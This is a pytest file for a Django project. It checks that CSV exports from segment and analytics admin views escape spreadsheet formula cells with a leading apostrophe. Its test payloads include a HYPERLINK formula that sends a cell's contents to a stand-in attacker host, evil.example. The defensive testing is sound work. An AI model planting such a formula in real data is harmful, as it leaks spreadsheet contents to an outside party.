"""Every CSV the project hands out escapes cells a spreadsheet would run as a formula.

External ids and property values come from clients (public keys included). A cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading ``'``
(OWASP's rule); numbers such as ``-5`` stay numbers. Downloads go through the admin over HTTP.
"""

import csv
import io
import json

import pytest
from django.contrib.auth.models import Permission, User
from django.test import Client

from events.ingestion import events_ingest
from people.segments.models import Segment
from people.segments.services import segment_create, segment_members_add
from tests.factories import DefinitionFactory, PersonFactory, at, event, props
from tests.people.test_admin import admin_url, login, make_staff

pytestmark = pytest.mark.django_db

# (value sent by a client, cell in the CSV)
PAYLOADS = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    ),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("-5", "-5"),
    ("plain", "plain"),
]


def _rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_segment_members_csv_escapes_formulas(workspace):
    """members.csv writes external ids and the segment's name with a leading ``'`` where they
    would start a formula; plain values and numbers are unchanged."""
    people = {
        PersonFactory(workspace=workspace, external_id=value).pk: cell for value, cell in PAYLOADS
    }
    segment = segment_create(workspace=workspace, name="=1+1", kind=Segment.Kind.STATIC)
    segment_members_add(segment=segment, person_ids=list(people))
    client = login(make_staff("mia", workspace))
    response = client.get(admin_url("people_segment_members_csv", segment.pk))
    assert response.status_code == 200
    rows = _rows(b"".join(response.streaming_content))
    assert {int(r["person_id"]): r["external_id"] for r in rows} == people
    assert {r["segment"] for r in rows} == {"'=1+1"}


def test_segment_members_csv_action_escapes_formulas(workspace):
    """The change list's "export members" action writes the same escaped cells."""
    person = PersonFactory(workspace=workspace, external_id="@SUM(A1)")
    segment = segment_create(workspace=workspace, name="Listed", kind=Segment.Kind.STATIC)
    segment_members_add(segment=segment, person_ids=[person.pk])
    client = login(User.objects.create_superuser("root", password="pw"))
    action = "export_members"
    response = client.post(
        admin_url("people_segment_changelist"), {"action": action, "_selected_action": [segment.pk]}
    )
    assert response.status_code == 200
    rows = _rows(b"".join(response.streaming_content))
    assert [r["external_id"] for r in rows] == ["'@SUM(A1)"]


def test_analytics_csv_escapes_formulas(workspace):
    """The analytics segmentation CSV writes breakdown values escaped; counts stay numbers."""
    DefinitionFactory(workspace=workspace, definition_id="c_search", properties=props(q="text"))
    person = PersonFactory(workspace=workspace)
    result = events_ingest(
        workspace=workspace,
        origin="api",
        events=[
            event("c_search", person, occurred_at=at(i), properties={"q": value})
            for i, (value, _) in enumerate(PAYLOADS)
        ],
    )
    assert result.rejected == 0
    user = User.objects.create_user(username="ana", password="pw", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_analytics", "view_event"])
    )
    workspace.members.add(user)
    client = Client()
    client.force_login(user)
    query = {
        "events": ["c_search"],
        "from": "2024-05-01",
        "to": "2024-05-02",
        "breakdown": {"property": "q", "limit": 20},
    }
    response = client.post(
        "/admin/events/analytics/csv/", {"kind": "segmentation", "query": json.dumps(query)}
    )
    assert response.status_code == 200
    rows = _rows(response.content)
    assert {r["value"] for r in rows} == {cell for _, cell in PAYLOADS}
    assert sum(int(r["events"]) for r in rows) == len(PAYLOADS)
